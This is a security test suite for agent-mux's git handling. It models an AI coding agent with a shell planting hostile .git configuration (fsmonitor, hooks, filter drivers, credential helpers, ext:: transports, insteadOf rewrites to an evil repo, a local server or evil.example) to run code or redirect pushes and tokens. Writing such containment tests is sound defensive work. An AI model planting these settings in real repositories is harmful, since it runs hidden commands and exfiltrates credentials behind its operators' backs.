import { chmod, mkdir, readFile, rm, stat, symlink, writeFile } from 'node:fs/promises';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, test } from 'vitest';
import { collectChanges } from '../../../src/github/git/collect-changes.ts';
import { GitDirTamperedError } from '../../../src/github/git/git-dir-tampered-error.ts';
import { prepareWorkspace } from '../../../src/github/git/prepare-workspace.ts';
import { publishChanges } from '../../../src/github/git/publish-changes.ts';
import { createFixture, type Fixture, git } from './git-fixture.ts';

/**
 * The red team's attacks on agent-mux's own git: after prepareWorkspace, the "agent" (with its own
 * shell, as Claude or Codex has) plants configuration in `.git`; then agent-mux collects and
 * publishes. No planted command may run (the marker file stays absent), the push must reach the
 * real origin only, and neither the evil bare repository nor the evil HTTP server may get anything.
 * One table per class: a failing row names the attack that works again.
 */

const token = 'ghs_AttackSuiteToken0123456789';
const basic = Buffer.from(`x-access-token:${token}`).toString('base64');
const author = { name: 'agent-mux[bot]', email: 'bot@example.com' };

interface World {
  fixture: Fixture;
  clone: string;
  gitDir: string;
  marker: string;
  /** A script that appends its arguments to the marker file and passes stdin through. */
  script: string;
  /** A bare repository the attacks redirect pushes to. */
  evil: string;
  /** An HTTP server the attacks redirect requests to. */
  evilHttp: string;
}

let fixture: Fixture;
let world: World;
let evilServer: Server;
let evilRequests: { url: string | undefined; authorization: string | undefined }[] = [];
let evilHttpUrl: string;

beforeAll(async () => {
  evilServer = createServer((request, response) => {
    evilRequests.push({ url: request.url, authorization: request.headers.authorization });
    response.writeHead(401, { 'WWW-Authenticate': 'Basic realm="evil"' });
    response.end();
  });
  await new Promise<void>((resolve) => evilServer.listen(0, '127.0.0.1', resolve));
  evilHttpUrl = `http://127.0.0.1:${(evilServer.address() as AddressInfo).port}/evil.git`;
});
afterAll(() => {
  evilServer.close();
});

beforeEach(async () => {
  evilRequests = [];
  fixture = await createFixture({ 'README.md': '# demo\n', 'src/app.ts': 'export const a = 1;\n' });
  const marker = join(fixture.dir, 'MARKER');
  const script = join(fixture.dir, 'evil.sh');
  await writeFile(script, `#!/bin/sh\necho "ran: $0 $*" >> '${marker}'\nexec cat\n`);
  await chmod(script, 0o755);
  const evil = join(fixture.dir, 'evil.git');
  await git(fixture.dir, 'init', '--quiet', '--bare', evil);
  world = {
    fixture,
    clone: fixture.clone,
    gitDir: join(fixture.clone, '.git'),
    marker,
    script,
    evil,
    evilHttp: evilHttpUrl,
  };
  // Before the agent: agent-mux prepares (and pins) the workspace.
  await prepareWorkspace({ cwd: fixture.clone, token, target: { kind: 'issue', defaultBranch: 'main' } });
});
afterEach(async () => {
  await fixture.cleanup();
});

/** The agent's own `git config` in the workspace (it has a shell). */
const agentConfig = (w: World, ...args: string[]) => git(w.clone, 'config', ...args);

async function hook(dir: string, name: string, script: string): Promise<void> {
  await mkdir(dir, { recursive: true });
  await writeFile(join(dir, name), `#!/bin/sh\nexec '${script}' "$@"\n`);
  await chmod(join(dir, name), 0o755);
}

async function exists(file: string): Promise<boolean> {
  return stat(file).then(
    () => true,
    () => false,
  );
}

/** Runs agent-mux's part after the agent and checks that nothing planted ran or received anything. */
async function publishAndCheck(w: World, expected: 'pushed' | 'refused'): Promise<void> {
  await writeFile(join(w.clone, 'src', 'app.ts'), 'export const a = 2;\n');
  const attempt = (async () => {
    const files = await collectChanges(w.clone);
    expect(files.map((file) => file.path)).toContain('src/app.ts');
    return publishChanges({ cwd: w.clone, token, branch: 'agent/attack', message: 'attack', author });
  })();
  if (expected === 'pushed') {
    await expect(attempt).resolves.toMatchObject({ kind: 'pushed' });
    expect(await git(w.fixture.origin, 'rev-parse', 'refs/heads/agent/attack')).toMatch(/^[0-9a-f]{40}$/);
  } else {
    const error = await attempt.catch((caught: unknown) => caught);
    expect(GitDirTamperedError.isInstance(error)).toBe(true);
  }
  const ran = (await exists(w.marker)) ? await readFile(w.marker, 'utf8') : '';
  expect(ran, 'a planted command ran').toBe('');
  expect(await git(w.evil, 'for-each-ref'), 'the evil repository received a push').toBe('');
  expect(evilRequests, 'the evil server was contacted').toEqual([]);
  for (const request of evilRequests) expect(request.authorization ?? '').not.toContain(basic);
}

type Attack = [name: string, plant: (w: World) => Promise<unknown>];

describe('commands planted in .git/config never run', () => {
  const attacks: Attack[] = [
    ['core.fsmonitor', (w) => agentConfig(w, 'core.fsmonitor', w.script)],
    [
      'core.hooksPath with pre-commit, post-commit, pre-push hooks',
      async (w) => {
        const dir = join(w.clone, 'evil-hooks');
        for (const name of ['pre-commit', 'post-commit', 'pre-push', 'reference-transaction', 'post-index-change']) {
          await hook(dir, name, w.script);
        }
        await agentConfig(w, 'core.hooksPath', dir);
      },
    ],
    [
      'hooks in .git/hooks',
      async (w) => {
        for (const name of ['pre-commit', 'commit-msg', 'post-commit', 'pre-push', 'reference-transaction']) {
          await hook(join(w.gitDir, 'hooks'), name, w.script);
        }
      },
    ],
    [
      'include.path to a file with core.fsmonitor',
      async (w) => {
        const included = join(w.clone, 'included.cfg');
        await writeFile(included, `[core]\n\tfsmonitor = ${w.script}\n`);
        await agentConfig(w, 'include.path', included);
      },
    ],
    [
      'includeIf.gitdir to a file with core.fsmonitor',
      async (w) => {
        const included = join(w.fixture.dir, 'included-if.cfg');
        await writeFile(included, `[core]\n\tfsmonitor = ${w.script}\n`);
        await agentConfig(w, 'includeIf.gitdir:/.path', included);
      },
    ],
    [
      'filter.x.clean with .gitattributes',
      async (w) => {
        await agentConfig(w, 'filter.x.clean', w.script);
        await agentConfig(w, 'filter.x.process', w.script);
        await agentConfig(w, 'filter.x.required', 'true');
        await writeFile(join(w.clone, '.gitattributes'), '* filter=x\n');
      },
    ],
    [
      'filter driver named in .git/info/attributes',
      async (w) => {
        await agentConfig(w, 'filter.y.clean', w.script);
        await mkdir(join(w.gitDir, 'info'), { recursive: true });
        await writeFile(join(w.gitDir, 'info', 'attributes'), '* filter=y\n');
      },
    ],
    [
      'core.attributesFile naming a filter',
      async (w) => {
        await agentConfig(w, 'filter.z.clean', w.script);
        const attributes = join(w.fixture.dir, 'attributes');
        await writeFile(attributes, '* filter=z\n');
        await agentConfig(w, 'core.attributesFile', attributes);
      },
    ],
    ['diff.external', (w) => agentConfig(w, 'diff.external', w.script)],
    [
      'diff.x.command and textconv with .gitattributes',
      async (w) => {
        await agentConfig(w, 'diff.x.command', w.script);
        await agentConfig(w, 'diff.x.textconv', w.script);
        await writeFile(join(w.clone, '.gitattributes'), '* diff=x\n');
      },
    ],
    [
      'core.pager and pager.diff',
      async (w) => {
        await agentConfig(w, 'core.pager', w.script);
        await agentConfig(w, 'pager.diff', w.script);
      },
    ],
    ['credential.helper', (w) => agentConfig(w, 'credential.helper', `!${w.script}`)],
    ['core.askPass', (w) => agentConfig(w, 'core.askPass', w.script)],
    ['remote.origin.receivepack', (w) => agentConfig(w, 'remote.origin.receivepack', w.script)],
    [
      'gpg.program with commit.gpgSign',
      async (w) => {
        await agentConfig(w, 'gpg.program', w.script);
        await agentConfig(w, 'commit.gpgSign', 'true');
      },
    ],
    [
      'core.editor and sequence.editor',
      async (w) => {
        await agentConfig(w, 'core.editor', w.script);
        await agentConfig(w, 'sequence.editor', w.script);
      },
    ],
    [
      'gc.auto with a pre-auto-gc hook',
      async (w) => {
        await agentConfig(w, 'gc.auto', '1');
        await hook(join(w.gitDir, 'hooks'), 'pre-auto-gc', w.script);
      },
    ],
    [
      'core.sshCommand with the remote rewritten to ssh',
      async (w) => {
        await agentConfig(w, 'core.sshCommand', w.script);
        await agentConfig(w, `url.ssh://evil.example/x.git.insteadOf`, w.fixture.origin);
      },
    ],
    ['ext:: transport through insteadOf', (w) => agentConfig(w, `url.ext::${w.script} %S.insteadOf`, w.fixture.origin)],
    [
      'config.worktree with extensions.worktreeConfig',
      async (w) => {
        await agentConfig(w, 'extensions.worktreeConfig', 'true');
        await writeFile(join(w.gitDir, 'config.worktree'), `[core]\n\tfsmonitor = ${w.script}\n`);
      },
    ],
  ];
  test.each(attacks)('%s', async (_name, plant) => {
    await plant(world);
    await publishAndCheck(world, 'pushed');
  });
});

describe('the push goes to the URL pinned before the agent ran, with the token nowhere else', () => {
  const attacks: Attack[] = [
    ['url.<evil repo>.insteadOf=<origin>', (w) => agentConfig(w, `url.${w.evil}.insteadOf`, w.fixture.origin)],
    ['url.<evil repo>.pushInsteadOf=<origin>', (w) => agentConfig(w, `url.${w.evil}.pushInsteadOf`, w.fixture.origin)],
    ['url.<evil http>.insteadOf=<origin>', (w) => agentConfig(w, `url.${w.evilHttp}.insteadOf`, w.fixture.origin)],
    ['remote.origin.url changed to the evil repo', (w) => agentConfig(w, 'remote.origin.url', w.evil)],
    ['remote.origin.url changed to the evil server', (w) => agentConfig(w, 'remote.origin.url', w.evilHttp)],
    ['remote.origin.pushurl', (w) => agentConfig(w, 'remote.origin.pushurl', w.evil)],
    [
      'http.extraheader and http.proxy',
      async (w) => {
        await agentConfig(w, 'http.proxy', w.evilHttp);
        await agentConfig(w, 'http.extraheader', 'X-Evil: 1');
      },
    ],
  ];
  test.each(attacks)('%s', async (_name, plant) => {
    await plant(world);
    await publishAndCheck(world, 'pushed');
  });
});

describe('another git directory or configuration swapped in', () => {
  const evilConfig = (w: World) => `[core]\n\tfsmonitor = ${w.script}\n[remote "origin"]\n\turl = ${w.evil}\n`;
  const attacks: [name: string, plant: (w: World) => Promise<unknown>, expected: 'pushed' | 'refused'][] = [
    [
      '.git/commondir naming the evil repository',
      async (w) => {
        await writeFile(join(w.evil, 'config'), evilConfig(w));
        await writeFile(join(w.gitDir, 'commondir'), w.evil);
      },
      'pushed',
    ],
    [
      '.git replaced by a gitfile pointing at the evil repository',
      async (w) => {
        await writeFile(join(w.evil, 'config'), evilConfig(w));
        await rm(w.gitDir, { recursive: true });
        await writeFile(join(w.clone, '.git'), `gitdir: ${w.evil}\n`);
      },
      'refused',
    ],
    [
      '.git replaced by a symbolic link to the evil repository',
      async (w) => {
        await writeFile(join(w.evil, 'config'), evilConfig(w));
        await rm(w.gitDir, { recursive: true });
        await symlink(w.evil, join(w.clone, '.git'));
      },
      'refused',
    ],
  ];
  test.each(attacks)('%s', async (_name, plant, expected) => {
    await plant(world);
    await publishAndCheck(world, expected);
  });
});

describe('the token never appears on a command line', () => {
  test('git receives it through GIT_CONFIG_* variables, not argv', async () => {
    const wrapperDir = join(world.fixture.dir, 'bin');
    await mkdir(wrapperDir);
    const log = join(world.fixture.dir, 'argv.log');
    const realGit = (await import('node:child_process')).execFileSync('sh', ['-c', 'command -v git']).toString().trim();
    await writeFile(join(wrapperDir, 'git'), `#!/bin/sh\necho "$@" >> '${log}'\nexec '${realGit}' "$@"\n`);
    await chmod(join(wrapperDir, 'git'), 0o755);
    const previous = process.env.PATH;
    process.env.PATH = `${wrapperDir}:${previous}`;
    try {
      await writeFile(join(world.clone, 'src', 'app.ts'), 'export const a = 3;\n');
      await publishChanges({ cwd: world.clone, token, branch: 'agent/argv', message: 'm', author });
    } finally {
      process.env.PATH = previous;
    }
    const argv = await readFile(log, 'utf8');
    expect(argv).toContain('push');
    expect(argv).not.toContain(token);
    expect(argv).not.toContain(basic);
  });
});
